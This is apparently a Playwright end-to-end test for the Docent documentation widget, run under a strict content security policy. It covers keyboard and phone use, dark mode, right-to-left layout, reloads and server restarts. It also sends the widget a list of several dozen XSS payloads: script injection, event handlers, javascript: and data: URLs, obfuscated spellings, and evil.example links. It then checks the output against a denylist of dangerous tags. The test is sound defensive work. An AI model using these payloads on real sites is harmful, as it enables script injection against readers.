@@ -1,0 +1,225 @@
+// The widget in a real browser, on a page with the strictest policy that docs/assistant/widget.mdx names: as a reader uses it, with the
+// keyboard, on a phone, in the dark, from right to left, over a reload and a killed server, and with answers that want to do harm.
+// Prints what is wrong, a line each.
+import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
+import { chromium } from "playwright-core";
+
+const { server, control, domain, key, slowDomain, slowKey, chromium: executablePath } = JSON.parse(process.env.DOCENT_WIDGET);
+const problems = [];
+const check = (what, ok, got = "") => ok || problems.push(`${what} ${typeof got === "string" ? got.slice(0, 300) : JSON.stringify(got)}`);
+const axe = readFileSync(new URL("./node_modules/axe-core/axe.min.js", import.meta.url), "utf8");
+
+// The site: it allows scripts of its own and of Docent, and requests to Docent; no inline style, no inline script, nothing else.
+const policy = `default-src 'none'; script-src 'self' ${server}; connect-src ${server}; base-uri 'none'; form-action 'none'`;
+const site = createServer((req, res) => {
+  const q = new URL(req.url, "http://x").searchParams;
+  const attributes = [...q].filter(([name]) => name.startsWith("data-")).map(([name, value]) => ` ${name}="${value}"`).join("");
+  res.setHeader("Content-Type", "text/html; charset=utf-8");
+  res.setHeader("Content-Security-Policy", policy);
+  if (req.url.startsWith("/favicon")) return res.writeHead(204).end();
+  res.end(`<!doctype html><html lang="${q.get("lang") ?? "en"}" ${q.get("theme") ? `data-theme="${q.get("theme")}"` : ""}><head><meta charset="utf-8">
+<meta name="viewport" content="width=device-width, initial-scale=1"><title>Site</title></head><body><main><h1>Site</h1><p id="para">Boats are moored with a rope.</p>
+<pre id="snippet"><code>harbour moor BOAT</code></pre><button id="opener" data-docent-open="How do I moor a boat?">Ask how</button></main>
+<script src="${server}/widget/v1.js" data-domain="${q.get("domain") ?? domain}" data-key="${q.get("key") ?? key}"${attributes} async></script></body></html>`);
+});
+await new Promise((resolve) => site.listen(0, "127.0.0.1", resolve));
+const home = `http://127.0.0.1:${site.address().port}/guides/start`;
+
+const browser = await chromium.launch({ executablePath, args: ["--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"] });
+
+/** visit opens the site and watches what it loads and complains of. */
+async function visit(name, options, query = {}) {
+  const context = await browser.newContext({ viewport: { width: 1100, height: 800 }, ...options });
+  const page = await context.newPage();
+  page.setDefaultTimeout(60_000);
+  page.on("pageerror", (error) => problems.push(`${name}: ${error}`));
+  page.on("dialog", (dialog) => { problems.push(`${name}: a dialog said ${dialog.message()}`); dialog.dismiss(); });
+  page.on("console", (m) => /Content.Security.Policy|violates|Refused to/i.test(m.text()) && problems.push(`${name}: ${m.text()}`));
+  page.on("request", (r) => { const at = new URL(r.url()); if (![new URL(server).host, new URL(home).host].includes(at.host) && at.protocol.startsWith("http")) problems.push(`${name}: a request to ${r.url()}`); });
+  await page.goto(`${home}?${new URLSearchParams(query)}`);
+  await page.locator("docent-assistant").waitFor({ state: "attached" });
+  return { context, page };
+}
+
+async function accessible(name, page) {
+  await page.evaluate(axe); // by the debugger's protocol, which the page's policy does not bind
+  const { violations } = await page.evaluate(() => axe.run({ resultTypes: ["violations"] }));
+  for (const v of violations) problems.push(`${name}: ${v.help}: ${v.nodes.slice(0, 3).map((n) => n.html.slice(0, 160)).join(" | ")}`);
+}
+
+const complete = (page) => page.locator("article[aria-busy=false] .sources").last().waitFor();
+
+// A reader on a screen.
+{
+  const name = "a screen";
+  const { context, page } = await visit(name, {});
+  const loaded = [];
+  page.on("request", (r) => loaded.push(r.url()));
+  check("before it is used, only the loader is there", loaded.length === 0, loaded);
+  await page.keyboard.press("Control+k");
+  const box = page.getByRole("combobox", { name: "Search or ask a question" });
+  await box.waitFor();
+  check("the input has the focus", await box.evaluate((e) => e.getRootNode().activeElement === e));
+  await accessible(`${name}, opened`, page);
+  await box.fill("moor boat");
+  await page.getByRole("option", { name: /Mooring/ }).first().waitFor();
+  check("words found are marked", await page.locator("docent-assistant mark").count() > 0);
+  await accessible(`${name}, found`, page);
+  await page.keyboard.press("ArrowDown");
+  check("an arrow chooses the first result", await page.getByRole("option").nth(1).getAttribute("aria-selected") === "true");
+  await page.keyboard.press("ArrowUp");
+  await page.keyboard.press("Enter");
+  await complete(page);
+  const answer = page.locator("article .answer").last();
+  check("the answer", (await answer.textContent()).includes("harbour moor"), await answer.textContent());
+  check("the source leads to the page", (await page.locator(".sources a").first().getAttribute("href"))?.includes("/guides/mooring"), await page.locator(".sources a").first().getAttribute("href"));
+  await accessible(`${name}, answered`, page);
+  await page.getByRole("button", { name: "Not helpful" }).click();
+  await page.getByLabel("What was wrong or missing?").fill("it does not say how long the rope is");
+  await page.keyboard.press("Enter");
+  await page.getByText("Thank you.").waitFor();
+  await page.getByRole("textbox", { name: "Ask a follow-up question" }).fill("And how do I leave?");
+  await page.keyboard.press("Enter");
+  await page.locator("article").nth(1).waitFor();
+  await complete(page);
+  check("a follow-up is in the same conversation", await page.locator("article").count() === 2);
+  await page.getByRole("button", { name: "Answer again" }).click();
+  await complete(page);
+  check("another answer takes the place of the first", await page.locator("article").count() === 2);
+  await page.reload();
+  await page.locator("article").nth(1).waitFor();
+  check("a reload keeps the conversation", await page.locator("article").count() === 2);
+  await page.keyboard.press("Escape");
+  await page.getByRole("dialog").waitFor({ state: "hidden" });
+  await page.reload();
+  check("closed stays closed over a reload", await page.getByRole("dialog").count() === 0);
+  await page.locator("#opener").click();
+  await page.locator("article").nth(2).waitFor();
+  await complete(page);
+  await page.keyboard.press("Escape");
+  check("the focus goes back", await page.evaluate(() => document.activeElement?.id) === "opener", await page.evaluate(() => document.activeElement?.outerHTML ?? ""));
+  await page.locator("#snippet").selectText();
+  await page.getByRole("button", { name: "Ask about this" }).click();
+  check("what was selected is shown", (await page.locator(".foot .about").textContent()).includes("harbour moor BOAT"));
+  const sent = page.waitForRequest((r) => r.method() === "POST" && r.url().endsWith("/message"));
+  await page.getByRole("textbox").fill("What does this do?");
+  await page.keyboard.press("Enter");
+  const context0 = (await sent).postDataJSON();
+  check("what was selected is sent", context0.context?.[0]?.type === "code" && context0.context[0].elementId === "snippet" && context0.currentPath === "/guides/start", context0);
+  await complete(page);
+  check("nothing is kept for longer than the tab", await page.evaluate(() => localStorage.length === 0 && document.cookie === ""));
+  await context.close();
+}
+
+// On a phone in the dark; in Arabic; with a history.
+for (const [name, options, query] of [
+  ["a phone in the dark", { viewport: { width: 390, height: 800 }, colorScheme: "dark", hasTouch: true }, {}],
+  ["a dark site", { colorScheme: "light" }, { theme: "dark" }],
+  ["from right to left", {}, { lang: "ar", "data-history": "" }],
+]) {
+  const { context, page } = await visit(name, options, query);
+  await page.getByRole("button", { name: "Ask the documentation" }).click();
+  const dialog = page.getByRole("dialog");
+  await dialog.waitFor();
+  await page.getByRole("combobox").fill("moor a boat");
+  await page.getByRole("option").nth(1).waitFor();
+  await page.keyboard.press("Enter");
+  await complete(page);
+  await accessible(name, page);
+  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+  check(`${name}: the page is too wide by`, wide <= 0, wide);
+  if (name.includes("dark")) check(`${name}: dark`, await page.locator("docent-assistant").getAttribute("data-shown") === "dark");
+  if (query.lang) {
+    check("right to left", await dialog.getAttribute("dir") === "rtl" && await dialog.getAttribute("lang") === "ar");
+    await page.close();
+    const later = await context.newPage();
+    await later.goto(`${home}?${new URLSearchParams(query)}`);
+    await later.getByRole("button", { name: "Ask the documentation" }).click();
+    await later.getByText("محادثات سابقة").waitFor();
+  }
+  await context.close();
+}
+
+// The server is killed in the midst of an answer, and the page is reloaded in the midst of another: the whole answer is there, once.
+for (const way of ["kill", "reload"]) {
+  const { context, page } = await visit(way, {}, { domain: slowDomain, key: slowKey });
+  await page.locator("#opener").click();
+  await page.waitForFunction(() => (document.querySelector("docent-assistant").shadowRoot.querySelector(".answer")?.textContent ?? "").length > 40);
+  if (way === "kill") check("restart", (await fetch(control + "/restart", { method: "POST" })).ok);
+  else await page.reload();
+  await page.locator("article[aria-busy=false]").waitFor();
+  await page.getByRole("button", { name: "Helpful", exact: true }).waitFor();
+  const text = (await page.locator(".answer").textContent()).trim();
+  const parts = text.match(/part-\d+/g) ?? [];
+  check(`${way}: the whole answer, once`, await page.locator("article").count() === 1 && parts.length === 60 && new Set(parts).size === 60, `${await page.locator("article").count()} articles, ${parts.length} parts`);
+  await context.close();
+}
+
+// Answers, titles and questions that want to do harm: nothing runs, nothing is fetched, nothing but reading is offered. The answer is
+// put in place of the server's, as a model or a page that was taken over would write it.
+{
+  const { context, page } = await visit("hostile", {});
+  const cases = hostileCases();
+  const text = cases.map((c, i) => `#### case ${i}\n\n${c}\n\n`).join("");
+  const events = [{ type: "start", messageId: "msg_<img src=x onerror=ran()>", messageMetadata: { threadId: "thr_x" } }, { type: "text-start", id: "t" },
+    ...text.match(/[^]{1,500}/g).map((delta) => ({ type: "text-delta", id: "t", delta })), { type: "text-end", id: "t" },
+    { type: "source-url", sourceId: "1", url: "javascript:ran()", title: "<img src=x onerror=ran()>" },
+    { type: "source-url", sourceId: "2", url: "data:text/html,<script>ran()</script>", title: "\"><script>ran()</script>" },
+    { type: "source-url", sourceId: "3", url: "https://docs.example.com/ok", title: "fine" }, { type: "finish" }];
+  const cors = { "Access-Control-Allow-Origin": "*" };
+  await page.route("**/message", (route) => route.fulfill({ status: 200, headers: { ...cors, "Content-Type": "text/event-stream" }, body: events.map((e) => `data: ${JSON.stringify(e)}\n\n`).join("") }));
+  await page.route("**/v1/search/**", (route) => route.fulfill({ status: 200, headers: cors, json: [
+    { path: "javascript:ran()", content: "<img src=x onerror=ran()> boats", metadata: { title: "<svg onload=ran()>", url: "javascript:ran()", heading: "</strong><script>ran()</script>" } }] }));
+  await page.evaluate(() => { window.happened = []; window.ran = (...a) => window.happened.push(a.join() || "ran"); });
+  await page.getByRole("button", { name: "Ask the documentation" }).click();
+  await page.getByRole("combobox").fill("<img src=x onerror=ran()> boats (((");
+  await page.getByRole("option").nth(1).waitFor();
+  await page.getByRole("option").nth(1).click(); // an address that would run a program leads nowhere
+  await page.getByRole("option").nth(0).click();
+  await complete(page);
+  for (const a of await page.locator(".answer a").all()) await a.dispatchEvent("mouseover");
+  const found = await page.evaluate(() => {
+    const root = document.querySelector("docent-assistant").shadowRoot;
+    const bad = [];
+    for (const e of root.querySelectorAll("article *")) {
+      const outside = e.closest(".tools,form");
+      if (!outside && /^(script|style|iframe|object|embed|img|image|svg|math|form|input|select|textarea|link|meta|base|video|audio|source|template|dialog)$/i.test(e.tagName)) bad.push(e.outerHTML.slice(0, 120));
+      for (const a of e.attributes) {
+        if (/^on|^style$|^srcset$|^formaction$|^background$|^ping$/i.test(a.name)) bad.push(`${e.tagName} ${a.name}`);
+        if (/^(href|src|action|xlink:href)$/i.test(a.name) && !/^(https?:|mailto:|\/(?!\/)|#)/i.test(a.value)) bad.push(`${e.tagName} ${a.name}=${a.value}`.slice(0, 120));
+        if (!outside && a.name === "id") bad.push(`${e.tagName} id=${a.value}`);
+      }
+    }
+    return { bad, shown: root.querySelectorAll(".answer h4").length, happened: window.happened };
+  });
+  check("hostile answers leave behind", found.bad.length === 0, found.bad.slice(0, 5));
+  check("hostile answers ran", found.happened.length === 0, found.happened);
+  check("all hostile cases are on the page", found.shown === cases.length && cases.length >= 200, `${found.shown} of ${cases.length}`);
+  check("what is harmless is there", await page.locator(".answer").getByText("the end of the harm").count() === 1);
+  await context.close();
+}
+
+/** hostileCases are scripts, styles, links, images and tricks of Markdown, each in several spellings. */
+function hostileCases() {
+  const elements = ["<script>ran()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>ran()</script>", "<img src=x onerror=ran()>", "<img src=https://evil.example/a.png>", "<img srcset='https://evil.example/b.png 2x'>",
+    "<svg onload=ran()></svg>", "<svg><script>ran()</script></svg>", "<svg><a xlink:href='javascript:ran()'><text>x</text></a></svg>", "<svg><use href='https://evil.example/x.svg#a'></use></svg>", "<svg><animate onbegin=ran() attributeName=x></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>", "<math href='javascript:ran()'>x</math>", "<iframe src='javascript:ran()'></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "<object data='https://evil.example/'></object>", "<embed src='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>@import 'https://evil.example/x.css';*{display:none}</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>", "<form action='https://evil.example'><input name=p type=password><button>Sign in</button></form>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()><option>x</select>", "<textarea autofocus onfocus=ran()>x</textarea>",
+    "<button formaction='javascript:ran()'>x</button>", "<details open ontoggle=ran()><summary>x</summary></details>", "<video src=x onerror=ran()></video>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()></audio>", "<body onload=ran()>", "<marquee onstart=ran()>x</marquee>",
+    "<a href='javascript:ran()'>x</a>", "<a href='JaVaScRiPt:ran()'>x</a>", "<a href='java\tscript:ran()'>x</a>", "<a href='&#106;avascript:ran()'>x</a>", "<a href=' javascript:ran()'>x</a>", "<a href='\u0001javascript:ran()'>x</a>", "<a href='vbscript:ran()'>x</a>", "<a href='data:text/html,<script>ran()</script>'>x</a>",
+    "<a href='blob:https://evil.example/x'>x</a>", "<a href='//evil.example'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='https://ok.example' onclick=ran()>x</a>", "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>", "<a href='https://ok.example' ping='https://evil.example'>x</a>",
+    "<p style='background:url(https://evil.example/x.png)'>x</p>", "<p id=open name=open>x</p>", "<p class='open'>x</p>", "<table background='https://evil.example/x.png'><tr><td>x</table>", "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>", "<template><img src=x onerror=ran()></template>",
+    "<dialog open>x</dialog>", "<isindex action='javascript:ran()'>", "<xss onmouseover=ran() tabindex=1>x</xss>", "<docent-assistant data-domain=evil data-server=https://evil.example></docent-assistant>", "<!--><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>", "<p><svg><style><img src=x onerror=ran()></style></svg></p>"];
+  const links = ["javascript:ran()", "JAVASCRIPT:ran()", "javascript&colon;ran()", "java&Tab;script:ran()", "&#x6A;avascript:ran()", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "vbscript:ran()", "//evil.example/", "file:///etc/passwd", "<javascript:ran()>", "x\" onmouseover=\"ran()", "https://ok.example/\" onclick=\"ran()"];
+  const list = [];
+  for (const e of elements) list.push(e, `- item ${e}`, `> quote ${e}`);
+  for (const l of links) list.push(`[x](${l})`, `![x](${l})`, `[x][r]\n\n[r]: ${l}`);
+  list.push("<https://ok.example/><img src=x onerror=ran()>", "`<img src=x onerror=ran()>`", "```html\n<img src=x onerror=ran()>\n```", "|a|\n|-|\n|<img src=x onerror=ran()>|", "```\"><script>ran()</script>\nx\n```", "the end of the harm");
+  return list;
+}
+
+await browser.close();
+site.close();
+for (const p of problems) console.log(p);
